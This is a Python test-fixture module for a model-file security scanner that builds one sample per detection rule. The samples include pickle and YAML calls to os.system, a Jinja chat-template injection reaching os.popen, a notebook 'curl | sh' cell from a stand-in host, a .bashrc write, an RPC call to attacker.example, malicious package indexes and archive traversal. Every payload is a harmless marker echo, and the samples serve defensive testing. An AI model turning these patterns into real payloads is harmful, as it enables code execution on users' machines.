"""One sample per rule (issue 13, "a table test like bandit's").

``SAMPLES`` maps every rule ID of :data:`modelxray.rules.ALL_RULES` to a factory: a function that
writes a small file or folder into a temporary folder and returns a :class:`RuleSample` (what to
scan, and with which options).  ``tests/test_rule_table.py`` scans each sample and checks that
its rule is reported.  The builders are the ones the format tests already use (imported, not
copied); malicious samples carry harmless payloads (``echo`` into a marker file) and nothing
here loads them.
"""

from __future__ import annotations

import base64
import datetime
import functools
import gzip
import hashlib
import io
import json
import os
import pickle
import shutil
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

from modelxray import ScanOptions
from modelxray.policy import Policy, Suppression
from tests import pickle_samples as ps
from tests import protobuf_builders as pb
from tests.conftest import data_path
from tests.factories.keras_cves import _fn, _lambda_layer, harmless_pickle
from tests.factories.keras_layers import HUGE_SOURCES
from tests.factories.keras_models import host_blob
from tests.factories.skops_files import rewrite_schema
from tests.test_archive_rules import _link, _tar, _zip
from tests.test_gguf import build as gguf_file
from tests.test_gguf import tensor as gguf_tensor
from tests.test_hdf5_structure import _make as h5_file
from tests.test_hostile import small_input
from tests.test_keras_config_refs import _json_model
from tests.test_legacy_formats import _wrapper_pickle
from tests.test_loader_regions import _lying_npz
from tests.test_onnx import add_node as onnx_add
from tests.test_onnx import external as onnx_external
from tests.test_onnx import save as onnx_file
from tests.test_repo_files import _notebook
from tests.test_safetensors import entry as st_entry
from tests.test_safetensors import write_raw as safetensors_file
from tests.test_savedmodel_scan import const as tf_const
from tests.test_savedmodel_scan import with_serve
from tests.test_skops_mlflow_xgb import (
    PYFUNC_MLMODEL,
    _mlmodel,
    method_node_mismatch,
)
from tests.test_tflite_flax import _flax_bytes, _nd

EXAMPLES = Path(__file__).parent.parent / "examples"
MARKER_CMD = "echo MODELXRAY_MARKER > /tmp/modelxray_marker_rule_table"


@dataclass(frozen=True)
class RuleSample:
    """What to scan for one rule: paths, options, and how the run is made."""

    paths: tuple[Path | str, ...]  # a str: a remote URI (str(Path) would fold its "//")
    options: ScanOptions = field(default_factory=ScanOptions)
    isolate_cpu_seconds: float | None = None  # scan in the isolated child with this CPU limit
    hide_modules: tuple[str, ...] = ()  # optional extras made unimportable for the scan


Factory = Callable[[Path], RuleSample]


def _one(path: Path, **kw: Any) -> RuleSample:
    return RuleSample((path,), **kw)


def _write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def _bytes(name: str, data: bytes | str) -> Factory:
    return lambda tmp: _one(_write(tmp / name, data))


# ---------------------------------------------------------------------------------- scan


def _expired_suppression(tmp: Path) -> RuleSample:
    path = _write(tmp / "m.pkl", ps.call1("os", "system", MARKER_CMD))
    sha = hashlib.sha256(path.read_bytes()).hexdigest()
    gone = Suppression(sha, "MX-PICKLE-001", "old exception", datetime.date(2020, 1, 31))
    return _one(path, options=ScanOptions(policy=Policy(suppressions=(gone,))))


def _escaping_link(tmp: Path) -> RuleSample:
    outside = _write(tmp / "outside" / "w.pkl", pickle.dumps([1.0], protocol=4))
    (tmp / "model").mkdir()
    (tmp / "model" / "w.pkl").symlink_to(outside)
    return _one(tmp / "model")


def _fifo(tmp: Path) -> RuleSample:
    os.mkfifo(tmp / "model.pkl")
    return _one(tmp / "model.pkl")


def _empty_folder(tmp: Path) -> RuleSample:
    (tmp / "empty").mkdir()
    return _one(tmp / "empty")


def _heavy_pickle(tmp: Path) -> RuleSample:
    # valid, but seconds of CPU to model: the isolated child runs out of its 1 s CPU limit
    path = _write(tmp / "heavy.pkl", b"\x80\x04" + b"(1" * 6_000_000 + b"N.")
    return _one(path, isolate_cpu_seconds=1)


def _not_approved(tmp: Path) -> RuleSample:
    path = _write(tmp / "clean.keras", (EXAMPLES / "clean_dense.keras").read_bytes())
    return _one(path, options=ScanOptions(policy=Policy(approved_formats=("safetensors",))))


def _model_data(tmp: Path) -> RuleSample:
    (tmp / "weights.bin").write_bytes(bytes(16))
    onnx_file(tmp / "model.onnx", [onnx_add()], [onnx_external("W", "weights.bin")])
    return _one(tmp)


# ---------------------------------------------------------------------------------- keras


def _keras_json(*layers: dict[str, Any]) -> Factory:
    def make(tmp: Path) -> RuleSample:
        path = _json_model(tmp, layers[0])
        if len(layers) > 1:
            doc = json.loads(path.read_text())
            doc["config"]["layers"] = list(layers)
            path.write_text(json.dumps(doc))
        return _one(path)

    return make


def _lambda(function: object, **extra: Any) -> dict[str, Any]:
    return {**_lambda_layer("l", function, {}), **extra}  # type: ignore[arg-type]


def _code(code: object) -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def _lambda_source(source: str) -> Factory:
    """A Lambda whose code is ``source`` compiled (never run) by this interpreter."""
    return _keras_json(_lambda(_code(host_blob(source).b64)))


def _layer(
    layer_module: str | None, class_name: str, registered: str | None = None, **config: Any
) -> Factory:
    layer = {
        "module": layer_module,
        "class_name": class_name,
        "registered_name": registered,
        "config": {"name": "x", **config},
    }
    return _keras_json(layer)


def _keras_member_escape(tmp: Path) -> RuleSample:
    path = tmp / "m.keras"
    shutil.copy(EXAMPLES / "clean_dense.keras", path)
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("assets/../../../tmp/modelxray_marker_rule_table", b"MODELXRAY_MARKER\n")
    return _one(path)


def _h5(build: Callable[[Any], None]) -> Factory:
    """An HDF5 file with a Keras ``model_weights`` group (so links keep their severity)."""

    def with_weights(f: Any) -> None:
        f.create_group("model_weights")
        build(f)

    return lambda tmp: _one(h5_file(tmp / "m.h5", with_weights))


def _h5_external_link(f: Any) -> None:
    import h5py

    f["model_weights/w"] = h5py.ExternalLink("/tmp/modelxray_marker.h5", "/x")


def _h5_dangling(f: Any) -> None:
    import h5py

    f["model_weights/w"] = h5py.SoftLink("/nowhere")


def _h5_external_storage(f: Any) -> None:
    f.create_dataset("model_weights/w", shape=(4,), dtype="f4", external=[("/tmp/w.bin", 0, 16)])


def _h5_virtual(f: Any) -> None:
    import h5py

    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("/tmp/other.h5", "w", shape=(4,))
    f.create_virtual_dataset("model_weights/w", layout)


def _h5_shape_bomb(f: Any) -> None:
    f.create_dataset("model_weights/w", shape=(1 << 20, 1 << 20), dtype="f8", chunks=(8, 8))


# ---------------------------------------------------------------------------------- repo


def _auto_map(target: object) -> Factory:
    config = {"model_type": "x", "auto_map": {"AutoModel": target}}
    return _bytes("config.json", json.dumps(config))


def _model_index(**components: object) -> Factory:
    index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.21.0", **components}
    return _bytes("model_index.json", json.dumps(index))


def _notebook_file(name: str, *cells: str) -> Factory:
    return _bytes(name, json.dumps(_notebook(list(cells))))


def _notebook_output(name: str, mime: str, text: str) -> Factory:
    doc = _notebook(["show()\n"])
    doc["cells"][0]["outputs"] = [
        {"output_type": "display_data", "metadata": {}, "data": {mime: text}}
    ]
    return _bytes(name, json.dumps(doc))


# ---------------------------------------------------------------------------------- manifests
_EVIL_INDEX = "https://packages.evil.example/simple"


def _mar_manifest(model: dict[str, str]) -> Factory:
    """A .mar as torch-model-archiver lays it out (MAR-INF/MANIFEST.json beside the files)."""
    manifest = {
        "createdOn": "07/12/2026 12:00:00",
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "model.pt", "modelVersion": "1.0", **model},
        "archiverVersion": "0.12.0",
    }
    members = [("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2).encode())]
    members += [("requirements.txt", b"numpy==1.26.4\n")]
    return _zip_file("m.mar", members)


# ---------------------------------------------------------------------------------- flax


def _flax(**params: Callable[[], object]) -> Factory:
    def make(tmp: Path) -> RuleSample:
        tree = {
            "params": {"ok": _nd(np.ones(3, np.float32)), **{k: v() for k, v in params.items()}}
        }
        return _one(_write(tmp / "ckpt.msgpack", _flax_bytes(tree)))

    return make


def _ext_unknown() -> object:
    import msgpack

    return msgpack.ExtType(99, b"hello")


def _ext_huge_array() -> object:
    import msgpack

    array = msgpack.packb(((1 << 20, 1 << 20), "float32", b"\0" * 16), use_bin_type=True)
    return msgpack.ExtType(1, array)


# ---------------------------------------------------------------------------------- skops


def _skops(edit: Callable[[dict[str, Any]], None] | None, func: str = "log1p") -> Factory:
    """A real skops file (skops.io.dump of a FunctionTransformer), its schema edited."""

    def make(tmp: Path) -> RuleSample:
        import operator

        import skops.io as sio
        from sklearn.preprocessing import FunctionTransformer

        fn = np.log1p if func == "log1p" else operator.attrgetter("real")
        src = tmp / "src.skops"
        sio.dump(FunctionTransformer(func=fn), src)
        return _one(src if edit is None else rewrite_schema(src, tmp / "m.skops", edit))

    return make


def _skops_os_system(doc: dict[str, Any]) -> None:
    doc["content"]["content"]["func"].update({"__module__": "os", "__class__": "system"})


# ---------------------------------------------------------------------------------- mlflow


def _mlflow(*replacements: tuple[str, str]) -> Factory:
    def make(tmp: Path) -> RuleSample:
        text = PYFUNC_MLMODEL
        for old, new in replacements:
            assert old in text
            text = text.replace(old, new)
        return _one(_mlmodel(tmp / "m", text))

    return make


# ---------------------------------------------------------------------------------- archives


def _tar_file(name: str, entries: list[tarfile.TarInfo | tuple[str, bytes]]) -> Factory:
    return lambda tmp: _one(_tar(tmp / name, entries))


def _zip_file(name: str, members: list[tuple[str | zipfile.ZipInfo, bytes]]) -> Factory:
    return lambda tmp: _one(_zip(tmp / name, members))


def _7z_without_py7zr(tmp: Path) -> RuleSample:
    import py7zr

    path = tmp / "x.7z"
    with py7zr.SevenZipFile(path, "w") as z:
        z.writestr(b"harmless", "archive/data.pkl")
    return _one(path, hide_modules=("py7zr",))


def _7z_encrypted(tmp: Path) -> RuleSample:
    import py7zr

    path = tmp / "locked.7z"
    with py7zr.SevenZipFile(path, "w", password="secret", header_encryption=True) as z:
        z.writestr(b"harmless", "archive/data.pkl")
    return _one(path)


def _prefixed_npz(tmp: Path) -> RuleSample:
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(3))
    return _one(_write(tmp / "both.npz", pickle.dumps({"a": [1, 2]}, protocol=2) + buf.getvalue()))


# ---------------------------------------------------------------------------------- tf


def _saved_model(*nodes: pb.Msg) -> Factory:
    return lambda tmp: _one(_write(tmp / "saved_model.pb", with_serve(*nodes)))


# ---------------------------------------------------------------------------------- safetensors


def _safetensors(header: dict[str, object], data: bytes) -> Factory:
    return lambda tmp: _one(safetensors_file(tmp / "m.safetensors", header, data))


# ---------------------------------------------------------------------------------- onnx


def _onnx(
    inits: Callable[[], list[Any]],
    nodes: Callable[[], list[Any]] = lambda: [onnx_add()],
    domain: str | None = None,
) -> Factory:
    def make(tmp: Path) -> RuleSample:
        from onnx import helper

        (tmp / "w.bin").write_bytes(bytes(16))
        opsets = [helper.make_opsetid("", 17)]
        if domain is not None:
            opsets.append(helper.make_opsetid(domain, 1))
        return _one(onnx_file(tmp / "m.onnx", nodes(), inits(), opsets))

    return make


def _onnx_two_fields() -> list[Any]:
    from onnx import TensorProto, helper

    t = helper.make_tensor("W", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
    t.raw_data = bytes(16)
    return [t]


def _onnx_custom_op() -> list[Any]:
    from onnx import helper

    return [helper.make_node("EvilOp", ["X"], ["Y"], domain="com.example.untrusted")]


# ---------------------------------------------------------------------------------- templates


def _template(source: str) -> Factory:
    return _bytes(
        "tokenizer_config.json", json.dumps({"tokenizer_class": "X", "chat_template": source})
    )


# ---------------------------------------------------------------------------------- pickle


@functools.cache
def _pickle_samples() -> dict[str, ps.Sample]:
    return ps.build_samples()


def _pickle_sample(name: str) -> Factory:
    return lambda tmp: _one(_write(tmp / "x.bin", _pickle_samples()[name].data))


def _long1(n: int) -> bytes:
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


# ---------------------------------------------------------------------------------- torch, numpy


def _torchscript(code: bytes) -> Factory:
    """A minimal TorchScript archive layout (data.pkl, constants.pkl, one code member)."""

    def make(tmp: Path) -> RuleSample:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("m/data.pkl", pickle.dumps({}, protocol=2))
            z.writestr("m/constants.pkl", pickle.dumps((), protocol=2))
            z.writestr("m/code/__torch__/m.py", code)
        return _one(_write(tmp / "ts.pt", buf.getvalue()))

    return make


def _object_npy(tmp: Path) -> RuleSample:
    path = tmp / "obj.npy"
    np.save(path, np.array([1, "a"], dtype=object), allow_pickle=True)  # saving runs nothing
    return _one(path)


def _npy_header(header: bytes) -> bytes:
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + 1) + header + b"\n"


# ---------------------------------------------------------------------------------- the table

SAMPLES: dict[str, Factory] = {
    # scan
    "MX-SCAN-001": _bytes("broken.h5", (EXAMPLES / "malicious_lambda.h5").read_bytes()[:2000]),
    "MX-SCAN-002": _bytes("deep.msgpack", b"\x81\xa1a" + b"\x91" * 100_000 + b"\xc0"),
    "MX-SCAN-003": _bytes("model.safetensors", b"no model format at all"),
    "MX-SCAN-004": lambda tmp: _one(tmp / "absent.pkl"),
    "MX-SCAN-005": _escaping_link,
    "MX-SCAN-006": _expired_suppression,
    "MX-SCAN-007": _not_approved,
    "MX-SCAN-008": _heavy_pickle,
    "MX-SCAN-009": _empty_folder,
    "MX-SCAN-010": _fifo,
    "MX-SCAN-011": _model_data,
    # a remote source whose client library is missing: no network is touched
    "MX-SCAN-012": lambda tmp: RuleSample(("hf://org/model",), hide_modules=("huggingface_hub",)),
    # keras: Lambda code and function references
    "MX-KERAS-101": _lambda_source(f"lambda x: __import__('os').system({MARKER_CMD!r}) or x"),
    "MX-KERAS-102": _lambda_source("lambda x: some_library.frobnicate(x)"),
    "MX-KERAS-103": _keras_json(_lambda(_code("4wEAAAAA!!!not base64 at all%%%"))),
    "MX-KERAS-104": _lambda_source("lambda x: x * 2.0"),
    "MX-KERAS-107": _lambda_source(HUGE_SOURCES["list_repeat"]),
    "MX-KERAS-105": _keras_json(_lambda(_fn("os", "system"))),
    "MX-KERAS-106": _keras_json(_lambda(_fn("numpy", "sum"))),
    # keras: config references
    "MX-KERAS-201": _layer("operator", "methodcaller"),
    "MX-KERAS-202": _layer("my_company.layers", "Custom"),
    "MX-KERAS-203": _layer(None, "MyLayer", "Custom>MyLayer"),
    "MX-KERAS-204": _keras_json(_lambda(_fn("keras.models", "load_model"))),
    "MX-KERAS-205": _keras_json(_lambda(_fn("builtins", "my_fn"))),
    "MX-KERAS-206": _keras_json(
        _lambda(
            _fn("keras.models", "load_model"),
            inbound_nodes=[{"args": [], "kwargs": {"inputs": "https://example.invalid/m"}}],
        )
    ),
    "MX-KERAS-207": _layer(
        "keras.layers",
        "TorchModuleWrapper",
        module=base64.b64encode(harmless_pickle("rule_table")).decode("ascii"),
    ),
    "MX-KERAS-208": _layer("keras.layers", "TFSMLayer", filepath="gs://bucket/model"),
    "MX-KERAS-209": _layer("keras.layers", "StringLookup", vocabulary="/tmp/vocab.txt"),
    # keras: HDF5 structure and archive members
    "MX-KERAS-301": _h5(_h5_external_link),
    "MX-KERAS-302": _h5(_h5_dangling),
    "MX-KERAS-303": _h5(_h5_external_storage),
    "MX-KERAS-304": _h5(_h5_virtual),
    "MX-KERAS-305": _h5(_h5_shape_bomb),
    "MX-KERAS-306": _keras_member_escape,
    # repository files
    "MX-REPO-101": _auto_map("modeling_evil.EvilModel"),
    "MX-REPO-102": _auto_map("other-org/repo--modeling_x.XModel"),
    "MX-REPO-103": _bytes("modeling_evil.py", f"import os\nos.system({MARKER_CMD!r})\n"),
    "MX-REPO-104": _notebook_file("demo.ipynb", "!curl -s http://example.invalid/x | sh\n"),
    "MX-REPO-105": _notebook_file("odd.ipynb", "def f(:\n"),
    "MX-REPO-106": _bytes("modelxray.toml", "report_only = true\n"),
    "MX-REPO-121": _model_index(unet=["subprocess", "Popen"]),
    "MX-REPO-122": _model_index(unet=["acme_unets", "FastUNet"]),
    "MX-REPO-123": _model_index(unet=["diffusers", "NotAUNet"]),
    "MX-REPO-201": _notebook_file("write.ipynb", f"%%writefile -a ~/.bashrc\n{MARKER_CMD}\n"),
    "MX-REPO-202": _notebook_file("run.ipynb", "%run https://example.invalid/setup.py\n"),
    "MX-REPO-203": _notebook_output(
        "out.ipynb", "application/javascript", "IPython.notebook.kernel.execute('1')"
    ),
    # tflite (committed fixtures, made by tests/data/tflite's script), flax
    "MX-TFLITE-101": lambda tmp: _one(data_path("tflite", "custom_ops.tflite")),
    "MX-TFLITE-102": lambda tmp: _one(data_path("tflite", "flex_unlisted.tflite")),
    "MX-TFLITE-103": lambda tmp: _one(data_path("tflite", "flex_benign.tflite")),
    "MX-FLAX-101": _flax(odd=_ext_unknown),
    "MX-FLAX-102": _flax(huge=_ext_huge_array),
    # skops
    "MX-SKOPS-101": _skops(_skops_os_system),
    "MX-SKOPS-102": _skops(None, "attrgetter"),
    "MX-SKOPS-103": _skops(method_node_mismatch),
    # YAML/OmegaConf/Hydra configs
    "MX-CONFIG-001": _bytes(
        "config.yaml", f"model:\n  _target_: subprocess.run\n  args: [{MARKER_CMD!r}]\n"
    ),
    "MX-CONFIG-002": _bytes("config.yaml", "model:\n  _target_: some_package.models.Net\n"),
    "MX-CONFIG-003": _bytes("config.yaml", "model:\n  _target_: ${oc.env:MODEL_CLASS}\n"),
    "MX-CONFIG-004": _bytes(
        "params.yaml", f"cmd: !!python/object/apply:os.system [{MARKER_CMD!r}]\n"
    ),
    "MX-CONFIG-005": _bytes(
        "config.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: ${eval:'2*8'}\n"
    ),
    # mlflow
    "MX-MLFLOW-101": _mlflow(),
    "MX-MLFLOW-102": _mlflow(("loader_module: mlflow.pyfunc.model", "loader_module: my_loader")),
    "MX-MLFLOW-103": _mlflow(
        ("python_model: python_model.pkl", "python_model: ../../tmp/payload.pkl")
    ),
    # manifests (tests/test_manifests.py has the real-tool fixtures)
    "MX-MANIFEST-001": _bytes("requirements.txt", f"--extra-index-url {_EVIL_INDEX}\nnumpy\n"),
    "MX-MANIFEST-002": _bytes("requirements.txt", "git+https://git.evil.example/x/y.git\n"),
    "MX-MANIFEST-003": _bytes("requirements.txt", "-e .\n"),
    "MX-MANIFEST-004": _bytes("requirements.txt", "reqeusts==2.31.0\n"),
    "MX-MANIFEST-005": _bytes("requirements.txt", "-r base.txt\n"),
    "MX-MANIFEST-006": _bytes("requirements.txt", "helpers --global-option=build_ext\n"),
    "MX-MANIFEST-007": _bytes("requirements.txt", "numpy\nhelpers from somewhere\n"),
    "MX-MANIFEST-008": _bytes(
        "environment.yml",
        "name: x\nchannels:\n- https://conda.evil.example/c\ndependencies:\n- numpy\n",
    ),
    "MX-MANIFEST-101": _mar_manifest({"handler": "handler.py"}),
    "MX-MANIFEST-102": _mar_manifest(
        {"handler": "image_classifier", "requirementsFile": "requirements.txt"}
    ),
    "MX-MANIFEST-103": _bytes(
        "pyproject.toml",
        '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n',
    ),
    # archives
    "MX-ARCHIVE-001": _tar_file("slip.tar", [("../escape_marker.txt", b"harmless")]),
    "MX-ARCHIVE-002": _tar_file("link.tar", [_link("model/w.bin", "/tmp/modelxray_dummy")]),
    "MX-ARCHIVE-003": _tar_file(
        "inside.tar", [_link("model/latest.bin", "weights.bin"), ("model/weights.bin", b"w")]
    ),
    "MX-ARCHIVE-004": _zip_file("dup.zip", [("a/w.bin", b"a"), ("a/w.bin", b"b")]),
    "MX-ARCHIVE-005": _bytes("weights.bin.gz", gzip.compress(bytes(5 << 20))),
    "MX-ARCHIVE-006": _7z_without_py7zr,
    "MX-ARCHIVE-007": _7z_encrypted,
    "MX-ARCHIVE-008": _prefixed_npz,
    "MX-ARCHIVE-009": lambda tmp: _one(_write(tmp / "lying.npz", _lying_npz())),
    "MX-ARCHIVE-010": lambda tmp: _one(small_input(tmp, "overlapping-entry zip bomb")),
    # tensorflow graphs
    "MX-TF-101": _saved_model(pb.node("pyfunc_0", "PyFunc", ["x"])),
    "MX-TF-102": _saved_model(
        tf_const("p", "/etc/hostname"), pb.node("ReadFile", "ReadFile", ["p:output:0"])
    ),
    "MX-TF-103": _saved_model(
        tf_const("p", "/tmp/modelxray_marker"), pb.node("w", "WriteFile", ["p:output:0", "x"])
    ),
    "MX-TF-104": _saved_model(
        tf_const("addr", "attacker.example:443"),
        pb.node("client", "RpcClient", ["addr:output:0", "timeout"]),
    ),
    "MX-TF-105": _saved_model(pb.node("c", "ModelxrayCustomOpNotInTF", ["x"])),
    # safetensors
    "MX-SAFETENSORS-001": _safetensors({"a": st_entry("Q4", [32], 0, 16)}, bytes(16)),
    "MX-SAFETENSORS-002": _safetensors({"a": st_entry("F32", [5], 0, 16)}, bytes(16)),
    "MX-SAFETENSORS-003": _safetensors(
        {"a": st_entry("F32", [2], 0, 8), "b": st_entry("F32", [2], 16, 24)},
        bytes(24) + b"PAYLOAD",
    ),
    "MX-SAFETENSORS-004": _safetensors(
        {"__metadata__": {"n": 3}, "a": st_entry("F32", [1], 0, 4)}, bytes(4)
    ),
    # gguf
    "MX-GGUF-001": _bytes("m.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + b"\xff" * 8),
    "MX-GGUF-002": _bytes(
        "m.gguf",
        gguf_file([], [gguf_tensor("a", [4], 0, 0), gguf_tensor("a", [4], 0, 32)], bytes(64)),
    ),
    # onnx
    "MX-ONNX-001": _onnx(lambda: [onnx_external("W", "../../etc/hostname")]),
    "MX-ONNX-002": _onnx(lambda: [onnx_external("W", "w.bin", offset="60", length="16")]),
    "MX-ONNX-003": _onnx(list, _onnx_custom_op, "com.example.untrusted"),
    "MX-ONNX-004": _onnx(_onnx_two_fields),
    "MX-ONNX-005": _onnx(lambda: [onnx_external("W", "w.bin", __class__="x")]),
    # chat templates
    "MX-TEMPLATE-001": _template(
        "{{ cycler.__init__.__globals__.os.popen('echo MODELXRAY_MARKER').read() }}"
    ),
    "MX-TEMPLATE-002": _template("{{ config.items() }}"),
    "MX-TEMPLATE-003": _template("{% for m in messages %}{{ m }}"),
    "MX-TEMPLATE-004": _template("{{ 'a' * 10**9 }}"),
    # pickle
    "MX-PICKLE-001": _bytes("x.pkl", ps.call1("os", "system", MARKER_CMD)),
    "MX-PICKLE-002": _bytes("x.pkl", ps.call1("my_company.tools", "run", "x")),
    "MX-PICKLE-003": _bytes("x.pkl", b"cmy_company.models\nClassifier\n)\x81."),
    "MX-PICKLE-004": _bytes(
        "logger.pkl",
        ps.p4(
            ps.sg("logging", "getLogger")
            + ps.u("")
            + ps.TUPLE1
            + ps.REDUCE
            + ps.EMPTY_DICT
            + ps.u("disabled")
            + ps.NEWTRUE
            + ps.SETITEM
            + ps.BUILD
        ),  # fmt: skip
    ),
    "MX-PICKLE-005": _bytes("x.pkl", pickle.dumps({"a": [1, 2, 3]}, protocol=4)[:-5]),
    "MX-PICKLE-006": _pickle_sample("t17_frame_divergence"),
    "MX-PICKLE-007": _bytes("t.pkl", pickle.dumps({"a": 1}) + b"\x00garbage"),
    "MX-PICKLE-008": _pickle_sample("t05_marshal"),
    "MX-PICKLE-009": _pickle_sample("t07_torch_load_file"),
    "MX-PICKLE-011": _bytes(
        "bomb.pkl", ps.p4(ps.sg("builtins", "bytearray") + _long1(10**12) + ps.TUPLE1 + ps.REDUCE)
    ),
    "MX-PICKLE-010": lambda tmp: _one(
        _write(tmp / "x.pkl", pickle.dumps({"a": 1}, protocol=4)),
        options=ScanOptions(show_code=True),
    ),
    # torch
    "MX-TORCH-001": _torchscript(b"def forward(self, x):\n    return torch.relu(x)\n"),
    "MX-TORCH-002": _torchscript(b"def forward(self, x):\n    return torch.relu(x)\n"),
    "MX-TORCH-003": _torchscript(b"def forward(self, x):\n    return torch.ops.evil.run(x)\n"),
    "MX-TORCH-004": lambda tmp: _one(data_path("torch_package", "extern_os_pickle.pt")),
    "MX-TORCH-005": lambda tmp: _one(data_path("torch_package", "benign.pt")),
    # numpy
    "MX-NUMPY-001": _object_npy,
    "MX-NUMPY-002": _bytes(
        "bad.npy", _npy_header(b"{'descr': 5, 'fortran_order': False, 'shape': (1,), }")
    ),
    "MX-NUMPY-003": lambda tmp: _one(
        _write(tmp / "model.pkl", _wrapper_pickle("model.pkl_01.npy"))
    ),
}

# Rules no file can produce, each with the reason.  Empty: every rule has a sample.
UNPRODUCIBLE: dict[str, str] = {}
